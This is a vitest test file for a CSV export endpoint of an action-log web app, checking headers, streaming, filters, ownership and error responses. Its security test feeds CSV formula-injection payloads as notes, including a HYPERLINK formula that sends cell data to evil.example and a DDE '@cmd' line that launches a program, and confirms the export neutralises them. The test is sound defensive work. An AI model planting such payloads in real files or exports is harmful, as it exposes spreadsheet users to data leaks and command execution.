// GET /api/actions/export: the caller's log as an RFC 4180 CSV download, read back here by a
// CSV parser (csv-parse) and compared with the log itself; hostile cells neutralised, quoting
// right, streamed page by page, owner-only, documented as text/csv.
import { parse } from 'csv-parse/sync';
import { actionEntries } from '../../db/schema/index.js';
import { newId } from '../../db/ids.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, EXPORT_PAGE_SIZE } from '../../server/domains/actions/export-route.js';
import { createMember, createTestApp, uniqueIp, type TestApp, type TestMember } from '../setup/harness.js';
import { logAction, outreach, wholeLog } from './helpers.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

/** The cells a faithful export holds for an entry (null → empty; formula starts get the apostrophe). */
function expectedRow(entry: Record<string, unknown>): Record<string, string> {
  const cell = (value: unknown) => {
    if (value === null || value === undefined) return '';
    const text = String(value);
    if (typeof value === 'string' && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text)) return `'${text}`;
    return text;
  };
  return Object.fromEntries(EXPORT_COLUMNS.map((column) => [column, cell(entry[column === 'id' ? '_id' : column])]));
}

async function exportOf(member: TestMember, query = '') {
  const res = await t.request('GET', `/api/actions/export${query}`, { token: member.token });
  expect(res.status, res.text.slice(0, 300)).toBe(200);
  return res;
}

/** Strict RFC 4180 reading; the record delimiter is detected, so an unquoted line break in a cell would split a record. */
const parseCsv = (text: string): Record<string, string>[] =>
  parse(text, { columns: true, relax_quotes: false, relax_column_count: false });

describe('the CSV export', () => {
  it('is a CSV download equal to the log, header first (happy)', async () => {
    const m = await createMember(t);
    const empty = await exportOf(m);
    expect(empty.text).toBe(`${EXPORT_COLUMNS.join(',')}\r\n`);

    await logAction(t, m, outreach(2.5, 'Leafleting at the market.'));
    await logAction(t, m, { kind: 'volunteer_shift', occurredOn: '2026-03-15', hours: 4, placeName: 'Hillside' });
    await logAction(t, m, { kind: 'other', occurredOn: '2026-03-16' });
    const res = await exportOf(m);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="action-log-${t.clock.now().toISOString().slice(0, 10)}.csv"`,
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.text.split('\r\n')[0]).toBe(EXPORT_COLUMNS.join(','));
    expect(res.text.endsWith('\r\n')).toBe(true);
    const log = await wholeLog(t, m);
    expect(parseCsv(res.text)).toEqual(log.map(expectedRow));
    expect(parseCsv(res.text)[2]).toMatchObject({ kind: 'outreach', hours: '2.5', note: 'Leafleting at the market.' });
  });

  it('neutralises formula cells and quotes what needs quoting (security)', async () => {
    const m = await createMember(t);
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+SUM(1,2)',
      '-2+3',
      "@cmd|' /C calc'!A0",
      '\uFF1D1+1',
      'plain, with a comma',
      'she said "hi"',
      'two\nlines',
      'windows\r\nline',
      'emoji 🌱 and ünïcödé',
    ];
    for (const note of hostile) await logAction(t, m, { kind: 'other', occurredOn: '2026-05-01', note });
    // Leading tab and CR never pass the API (trimmed), but the export must not trust its rows:
    // written straight to the table, as an older version or an import might have.
    for (const note of ['\tTabbed=1', '\r=CR']) {
      await t.deps.database.db.insert(actionEntries).values({
        id: newId(),
        userId: m.id,
        kind: 'other',
        occurredOn: '2026-05-02',
        note,
        createdAt: t.clock.now(),
      });
    }
    const res = await exportOf(m);
    const rows = parseCsv(res.text);
    const log = await wholeLog(t, m);
    expect(rows).toEqual(log.map(expectedRow));

    const notes = rows.map((r) => r.note!);
    for (const dangerous of notes.filter((n: string) => /^[=+\-@\t\r\uFF1D]/.test(n.replace(/^'/, '')))) {
      expect(dangerous.startsWith("'"), dangerous).toBe(true);
    }
    expect(notes).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
        "'+SUM(1,2)",
        "'-2+3",
        "'@cmd|' /C calc'!A0",
        "'\uFF1D1+1",
        "'\tTabbed=1",
        "'\r=CR",
        'plain, with a comma',
        'she said "hi"',
        'two\nlines',
        'windows\r\nline',
        'emoji 🌱 and ünïcödé',
      ]),
    );
    // RFC 4180 on the wire: quotes doubled inside a quoted field, line breaks only inside quotes.
    expect(res.text).toContain('"she said ""hi"""');
    expect(res.text).toContain('"plain, with a comma"');
    expect(res.text).toContain('"two\nlines"');
    expect(res.text).toContain('"windows\r\nline"');
    expect(res.text).toContain(`"'\r=CR"`);
    // No line of the file starts a cell with a formula character outside quotes.
    for (const line of res.text.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+@]/);
  });

  it('streams a long log page by page, in the order of the list (happy)', async () => {
    const m = await createMember(t);
    const count = EXPORT_PAGE_SIZE * 2 + 37;
    const rows = Array.from({ length: count }, (_, i) => ({
      id: newId(),
      userId: m.id,
      kind: 'outreach' as const,
      occurredOn: '2026-06-01',
      minutes: 15 * ((i % 8) + 1),
      note: `Entry ${i}`,
      createdAt: t.clock.now(),
    }));
    await t.deps.database.db.insert(actionEntries).values(rows);

    const response = await t.app.request(
      '/api/actions/export',
      { headers: { authorization: `Bearer ${m.token}` } },
      { incoming: { socket: { remoteAddress: uniqueIp() } } },
    );
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let text = '';
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks += 1;
      text += decoder.decode(value, { stream: true });
    }
    // One chunk per page read: the file is never built whole in memory.
    expect(chunks).toBe(3);
    const parsed = parseCsv(text);
    expect(parsed).toHaveLength(count);
    expect(parsed).toEqual((await wholeLog(t, m)).map(expectedRow));
    expect(parsed[0]!.note).toBe(`Entry ${count - 1}`);
  });

  it('filters like the list (kind, from, to)', async () => {
    const m = await createMember(t);
    await logAction(t, m, { kind: 'outreach', occurredOn: '2026-07-01', hours: 1 });
    await logAction(t, m, { kind: 'other', occurredOn: '2026-07-02' });
    await logAction(t, m, { kind: 'outreach', occurredOn: '2026-07-03', hours: 2 });
    const onlyOutreach = parseCsv((await exportOf(m, '?kind=outreach')).text);
    expect(onlyOutreach.map((r: any) => r.occurredOn)).toEqual(['2026-07-03', '2026-07-01']);
    const window = parseCsv((await exportOf(m, '?from=2026-07-02&to=2026-07-03')).text);
    expect(window.map((r: any) => r.occurredOn)).toEqual(['2026-07-03', '2026-07-02']);
    // Paging parameters are the export's own business: ignored.
    expect(parseCsv((await exportOf(m, '?limit=1&cursor=zzz')).text)).toHaveLength(3);
  });

  it("exports only the caller's own log (security)", async () => {
    const owner = await createMember(t);
    const other = await createMember(t);
    await logAction(t, owner, outreach(1, 'owner-only-note-81'));
    const theirs = await exportOf(other);
    expect(parseCsv(theirs.text)).toEqual([]);
    expect(theirs.text).not.toContain('owner-only-note-81');
  });

  it('answers errors as the JSON envelope before any CSV (error)', async () => {
    const m = await createMember(t);
    const anonymous = await t.request('GET', '/api/actions/export');
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('content-type')).toMatch(/^application\/json/);
    expect(anonymous.body.error.code).toBe('unauthorized');
    const dead = await t.request('GET', '/api/actions/export', { token: 'a'.repeat(52) });
    expect(dead.status).toBe(401);
    const malformed = await t.request('GET', '/api/actions/export', { headers: { authorization: 'Basic x' } });
    expect(malformed.status).toBe(401);
    for (const query of ['?from=yesterday', '?kind=sleeping', '?kind=outreach&kind=other', '?to=2026-13-01']) {
      const res = await t.request('GET', `/api/actions/export${query}`, { token: m.token });
      expect(res.status, query).toBe(400);
      expect(res.body.error.code).toBe('validation_failed');
      expect(res.body.error.details.length).toBeGreaterThan(0);
    }
    // Other methods on the path are not an export.
    expect((await t.request('POST', '/api/actions/export', { token: m.token, body: {} })).status).toBe(405);
  });

  it('is documented as text/csv, member-only, with its filters', () => {
    const op = (t.openApiDocument.paths as any)['/api/actions/export'].get;
    expect(Object.keys(op.responses['200'].content)).toEqual(['text/csv']);
    expect(op.responses['200'].headers['Content-Disposition']).toBeDefined();
    expect(op['x-auth']).toBe('member');
    expect(op.security).toEqual([{ bearer: [] }]);
    expect(op.parameters.map((p: any) => p.name)).toEqual(['kind', 'from', 'to']);
    expect(Object.keys(op.responses).sort()).toEqual(['200', '400', '401', '500', '503']);
  });
});
